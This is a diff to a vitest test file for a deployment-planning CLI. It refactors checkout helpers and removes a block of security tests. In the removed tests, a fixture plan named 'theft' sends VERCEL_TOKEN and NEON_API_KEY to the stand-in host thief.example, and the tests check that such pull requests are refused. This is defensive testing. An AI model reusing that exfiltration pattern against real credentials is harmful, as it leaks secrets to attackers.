@@ -4,9 +4,8 @@ import { createServer } from 'node:http';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { seed } from 'pilotfish-sandbox/all';
-import { afterEach, describe, expect, it, type TestContext } from 'vitest';
-import { openShop as openTeam } from '../action/shop.ts';
-import { execute, root } from '../cli/program.ts';
+import { afterAll, describe, expect, it, type TestContext } from 'vitest';
+import { pilotfish } from '../cli/program.ts';
 import { lines, openShop, planOf, type Shop } from '../lifecycle/shop.ts';
 import { cleanGitEnv } from '../support/git-remote.ts';
 
@@ -18,16 +17,15 @@ const env = {
   VAULT_TOKEN: 'vault-token-0123456789',
 };
 
-let shop: Shop | null = null;
-afterEach(async () => {
-  await shop?.close();
-  shop = null;
+const opened: Shop[] = [];
+afterAll(async () => {
+  for (const shop of opened) await shop.close();
 });
 
 /** A checkout whose first commit has these files, and the id of that commit. */
 async function checkoutWith(files: Readonly<Record<string, string>>) {
   const at = await openShop(planOf(lines.dns));
-  shop = at;
+  opened.push(at);
   await rm(path.join(at.folder, 'release.plan.yaml'));
   const git = async (...args: readonly string[]): Promise<string> =>
     (await run('git', ['-C', at.folder, ...args], { env: cleanGitEnv(at.folder) })).stdout.trim();
@@ -44,17 +42,23 @@ async function checkoutWith(files: Readonly<Record<string, string>>) {
   return { ...at, git, put, base: await git('rev-parse', 'HEAD') };
 }
 
+/** Checkouts by the plan of their base. */
+const checkouts = new Map<string | null, ReturnType<typeof checkoutWith>>();
+
 /** The plan of a pull request, against the plan of its base. */
-async function judged(base: string | null, head: string, more: { readonly env?: Record<string, string> } = {}) {
-  const at = await checkoutWith(base === null ? {} : { 'release.plan.yaml': base });
+async function judged(base: string | null, head: string) {
+  const made = checkouts.get(base) ?? checkoutWith(base === null ? {} : { 'release.plan.yaml': base });
+  checkouts.set(base, made);
+  const at = await made;
+  const met = at.strangers.length;
   await at.put({ 'release.plan.yaml': head });
   const seen = at.watch();
-  const failures = await at.plan({ planFrom: at.base, env: { ...env, ...more.env } }).then(
+  const failures = await at.plan({ planFrom: at.base, env }).then(
     () => [],
     (thrown: { readonly failures?: readonly { code: string; detail: string }[]; readonly code: string; readonly detail: string }) =>
       thrown.failures ?? [thrown],
   );
-  return { failures: failures.map(({ code, detail }) => `${code} ${detail}`), sent: seen.all() };
+  return { failures: failures.map(({ code, detail }) => `${code} ${detail}`), sent: [...seen.all(), ...at.strangers.slice(met)] };
 }
 
 type Json = null | boolean | number | string | readonly Json[] | { readonly [name: string]: Json };
@@ -234,9 +238,9 @@ describe('a plugin under `--plan-from`', () => {
     const place = at ?? (await checkoutWith(files));
     await place.put(change);
     // A process of its own: what tests import goes by the loader of their runner.
-    const args = [path.join(root, 'src/cli/pilotfish.ts'), 'plan', '--scope=s', '--json', `--plan-from=${place.base}`];
-    const own = { ...cleanGitEnv(place.folder), ...env, PILOTFISH_PLUGINS: './tools/plugin.mjs' };
-    const { stdout } = await execute(process.execPath, args, { cwd: place.folder, env: own });
+    const args = ['plan', '--scope=s', '--json', `--plan-from=${place.base}`];
+    const own = { GIT_CONFIG_NOSYSTEM: '1', ...env, PILOTFISH_PLUGINS: './tools/plugin.mjs' };
+    const { stdout } = await pilotfish(args, { cwd: place.folder, env: own });
     const { ok, error } = JSON.parse(stdout);
     const taken = await run('ls', [place.folder]).then(({ stdout: names }) => names.split('\n').includes('taken'));
     return { ok, code: error?.code, detail: error?.detail ?? '', taken };
@@ -303,85 +307,4 @@ it('a checkout without the base asks the code host for its files', async ({ onTe
   );
   expect(asked[0]).toBe(`/api/v3/repos/acme/shop/git/trees/${commit}?recursive=1`);
   expect(asked[1]).toBe(`/api/v3/repos/acme/shop/git/blobs/${id}`);
-});
-
-describe('`plan-from: base` of the action', { timeout: 120_000 }, () => {
-  const theft = (url: string): string =>
-    text({
-      version: 1,
-      providers: { http: { thief: { base_url: url, auth: { bearer_env: 'VERCEL_TOKEN' } } } },
-      changes: [
-        {
-          id: 'theft',
-          adapter: 'http',
-          op: 'action',
-          api: 'thief',
-          trigger: { now: '1' },
-          request: { path: '/take', headers: { 'x-neon': { secret: 'env://NEON_API_KEY' } } },
-        },
-      ],
-    });
-  const database =
-    'version: 1\nchanges:\n  - { id: database, adapter: neon, op: branch, project_id: quiet-river-12345678, name: "mine-${ctx.scope}" }\n';
-  const thief = 'https://thief.example';
-  const inputs = { 'plan-from': 'base' };
-
-  it('refuses a pull request that sends credentials to a host of its own, and tells which', async (context) => {
-    const team = await openTeam(context);
-    await team.author.commit('main', { 'release.plan.yaml': database });
-    await team.open(7, theft(thief));
-    const outcome = await team.run(await team.pullEvent(7, 'opened'), { inputs });
-    expect(outcome).toMatchObject({ code: 2, isFailed: true });
-    expect(outcome.summary).toContain('TRUSTED');
-    expect(outcome.errors.join()).toContain('theft sends VERCEL_TOKEN to https://thief.example');
-    expect(outcome.errors.join()).toContain('NEON_API_KEY');
-    expect(team.requests()).toBe(0);
-  });
-
-  it('refuses it also where the base is a branch that the same person pushed', async (context) => {
-    const team = await openTeam(context);
-    await team.author.commit('main', { 'release.plan.yaml': database });
-    team.host.move('main', team.author.main);
-    await team.author.commit('theirs', { 'release.plan.yaml': theft(thief) });
-    await team.open(8, theft(thief));
-    const event = await team.pullEvent(8, 'opened');
-    const { pull_request: pull } = event.payload as { pull_request: { base: { ref: string; sha: string }; head: { sha: string } } };
-    Object.assign(pull.base, { ref: 'theirs', sha: pull.head.sha });
-    const outcome = await team.run(event, { inputs });
-    expect(outcome.code).toBe(2);
-    expect(outcome.errors.join()).toContain('https://thief.example');
-    expect(team.requests()).toBe(0);
-  });
-
-  it('refuses it when its deployment is ready', async (context) => {
-    const team = await openTeam(context);
-    await team.author.commit('main', { 'release.plan.yaml': database });
-    team.host.move('main', team.author.main);
-    const sha = await team.open(9, theft(thief));
-    const outcome = await team.run(team.deploymentEvent({ sha }), { inputs });
-    expect(outcome.code).toBe(2);
-    expect(team.requests()).toBe(0);
-  });
-
-  it('runs a pull request that changes something else, and takes it away again', async (context) => {
-    const team = await openTeam(context);
-    await team.author.commit('main', { 'release.plan.yaml': database });
-    await team.open(10, database.replace('mine-', 'other-'));
-    expect(await team.run(await team.pullEvent(10, 'opened'), { inputs })).toMatchObject({ code: 0 });
-    expect(team.added()).not.toEqual({});
-    // Its last commit asks for what nobody merged: what it made goes all the same.
-    await team.push(10, { plan: theft(thief) });
-    expect((await team.run(await team.pullEvent(10, 'synchronize'), { inputs })).code).toBe(2);
-    team.close(10);
-    expect(await team.run(await team.pullEvent(10, 'closed'), { inputs })).toMatchObject({ code: 0 });
-    expect(team.added()).toEqual({});
-  });
-
-  it('takes no other word', async (context) => {
-    const team = await openTeam(context);
-    await team.open(11, database);
-    const outcome = await team.run(await team.pullEvent(11, 'opened'), { inputs: { 'plan-from': 'head' } });
-    expect(outcome.code).toBe(2);
-    expect(outcome.errors.join()).toContain('plan-from: base');
-  });
 });
